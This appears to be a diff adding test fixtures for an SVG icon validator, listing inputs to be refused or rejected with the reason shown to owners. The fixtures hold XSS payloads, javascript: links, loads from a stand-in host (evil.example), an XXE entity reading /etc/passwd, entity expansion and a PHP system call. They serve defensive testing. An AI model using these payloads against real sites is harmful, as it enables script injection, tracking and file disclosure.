@@ -1,0 +1,92 @@
+/*
+ * SVGs that are no icons. Each has what could run, load, hide or overwhelm; every `…` of a shape is one that could be
+ * drawn. Beside each stands what an owner is told.
+ */
+const svg = (inside: string, settings = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"${settings}>${inside}</svg>`;
+const shape = '<path d="M1 1h22v22z"/>';
+const sizeless = 'it does not say how large it is (viewBox="0 0 24 24")';
+
+/** Has something in it that no icon may have. */
+export const refused: [content: string, what: string][] = [
+  [svg(`<script>alert(1)</script>${shape}`), 'a script (<script>)'],
+  [svg(`<script href="https://evil.example/x.js"/>${shape}`), 'a script (<script>)'],
+  [svg(`<SCRIPT>alert(1)</SCRIPT>${shape}`), 'the tag <SCRIPT>'],
+  [svg(`<svg:script>alert(1)</svg:script>${shape}`), 'the tag <svg:script>'],
+  [svg(`<g><g><g><script>alert(1)</script></g></g></g>${shape}`), 'a script (<script>)'],
+  [svg(shape, ' onload="alert(1)"'), 'a script (onload)'],
+  [svg(shape, " onload='alert(1)'"), 'a script (onload)'],
+  [svg(shape, ' ONLOAD="alert(1)"'), 'a script (ONLOAD)'],
+  [svg('<path d="M1 1h22" onclick="alert(1)"/>'), 'a script (onclick)'],
+  [svg('<g onmouseover="alert(1)"><path d="M1 1h22"/></g>'), 'a script (onmouseover)'],
+  [svg(`<a xlink:href="javascript:alert(1)">${shape}</a>`), 'the tag <a>'],
+  [svg('<path d="M1 1h22" xlink:href="javascript:alert(1)"/>'), 'an address (xlink:href)'],
+  [svg('<path d="M1 1h22" href="javascript:alert(1)"/>'), 'an address (href)'],
+  [svg(`<use href="#of-root"/>${shape}`), 'the tag <use>'],
+  [svg(`<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>${shape}`), 'the tag <use>'],
+  [svg(`<image href="https://evil.example/track.gif"/>${shape}`), 'a picture (<image>)'],
+  [svg(`<feImage href="https://evil.example/track.gif"/>${shape}`), 'the tag <feImage>'],
+  [svg(`<animate attributeName="href" values="javascript:alert(1)"/>${shape}`), 'the tag <animate>'],
+  [svg(`<path d="M1 1h22"><animate attributeName="href" to="javascript:alert(1)"/></path>`), 'the tag <animate>'],
+  [svg(`<set attributeName="onclick" to="alert(1)"/>${shape}`), 'the tag <set>'],
+  [svg(`<path d="M1 1h22"><path d="M1 1h22"/></path>`), 'something inside a <path>'],
+  [svg(`<foreignObject><body onload="alert(1)"/></foreignObject>${shape}`), 'a part of a page (<foreignObject>)'],
+  [svg(`<iframe src="https://evil.example/"/>${shape}`), 'the tag <iframe>'],
+  [svg(`<text>Sign in here</text>${shape}`), 'letters (<text>)'],
+  [svg(`Sign in here${shape}`), 'text between its shapes'],
+  [svg(`<style>@import "https://evil.example/x.css"</style>${shape}`), 'a style sheet (<style>)'],
+  [svg('<path d="M1 1h22" style="fill:url(https://evil.example/x.svg#a)"/>'), 'an address (style)'],
+  [svg('<path d="M1 1h22" style="position:fixed"/>'), 'styles (style)'],
+  [svg('<path d="M1 1h22" fill="url(https://evil.example/x.svg#a)"/>'), 'an address (fill)'],
+  [svg('<path d="M1 1h22" stroke="url(#a)"/>'), 'an address (stroke)'],
+  [svg('<path d="M1 1h22" fill="expression(alert(1))"/>'), 'a setting that no shape needs (fill)'],
+  [svg('<path d="M1 1h22" filter="url(#a)"/>'), 'an address (filter)'],
+  [svg('<path d="M1 1h22" mask="url(#a)"/>'), 'an address (mask)'],
+  [svg('<path d="M1 1h22" clip-path="URL ( https://evil.example )"/>'), 'an address (clip-path)'],
+  [svg('<path d="M1 1h22" __proto__="x"/>'), 'a setting that no shape needs (__proto__)'],
+  [svg('<path d="M1 1h22" constructor="x"/>'), 'a setting that no shape needs (constructor)'],
+  [svg('<constructor/>'), 'the tag <constructor>'],
+  [svg('<path d="M1 1 &quot; onload=&quot;alert(1)"/>'), 'a setting that no shape needs (d)'],
+  [svg('<path d="&#109;1 1"/>'), 'a setting that no shape needs (d)'],
+  [svg(`<g transform="scale(&#x31;)">${shape}</g>`), 'a setting that no shape needs (transform)'],
+  [svg(`<![CDATA[<script>alert(1)</script>]]>${shape}`), 'a CDATA section'],
+  [
+    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<title>&x;</title>')}`,
+    'a document type (<!DOCTYPE>)',
+  ],
+  [`<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg(shape)}`, 'a document type (<!DOCTYPE>)'],
+  [`<?xml-stylesheet href="https://evil.example/x.css"?>${svg(shape)}`, 'an instruction for programs (<?…?>)'],
+  [svg(`<?php system("id") ?>${shape}`), 'an instruction for programs (<?…?>)'],
+  [svg(`${'<g>'.repeat(1000)}${shape}${'</g>'.repeat(1000)}`), 'groups that lie more than 30 deep in each other'],
+  [svg('<path d="M1 1h22" fill="red"/><path d="M1 1h22" fill="#00f"/>'), 'more than one colour'],
+  [svg('<path d="M1 1h22" fill="#fff"/><path d="M1 1h22"/>'), 'more than one colour'],
+];
+
+/** Cannot be read as an SVG. */
+export const unreadable: [content: string, reason: string][] = [
+  ['', 'it is no SVG'],
+  ['   ', 'it is no SVG'],
+  ['hello', 'it is no SVG'],
+  ['<html><body/></html>', 'it is no SVG'],
+  ['<svg/>', 'it is no SVG'],
+  ['<svg viewBox="0 0 24 24">', 'it is cut off'],
+  [`<svg viewBox="0 0 24 24">${shape}`, 'it is cut off'],
+  [`<svg viewBox="0 0 24 24"><g>${shape}</svg>`, 'it is damaged'],
+  [`${svg(shape)}${svg(shape)}`, 'it is damaged'],
+  [`${svg(shape)}<script>alert(1)</script>`, 'it is damaged'],
+  [svg('<path d="M1 1h22" d="M2 2h2"/>'), 'it is damaged'],
+  [svg('<path d=M1/>'), 'it is damaged'],
+  [svg('<path d="M1 1h22'), 'it is damaged'],
+  [svg('<path d="<script>"/>'), 'it is damaged'],
+  [svg('<path d="M1 1h22"x="1"/>'), 'it is damaged'],
+  [svg('< path d="M1 1h22"/>'), 'it is damaged'],
+  [svg(`<!-- ${shape}`), 'it is damaged'],
+  [svg(''), 'nothing is drawn in it'],
+  [svg('<g/>'), 'nothing is drawn in it'],
+  [svg(shape, ' fill="none"'), 'nothing is drawn in it'],
+  ['<svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1h22"/></svg>', sizeless],
+  ['<svg viewBox="0 0 0 24"><path d="M1 1h22"/></svg>', sizeless],
+  ['<svg viewBox="0 0 24"><path d="M1 1h22"/></svg>', sizeless],
+  ['<svg viewBox="0 0 1e999 24"><path d="M1 1h22"/></svg>', sizeless],
+  ['<svg viewBox="&quot;><script>"><path d="M1 1h22"/></svg>', 'it is damaged'],
+];
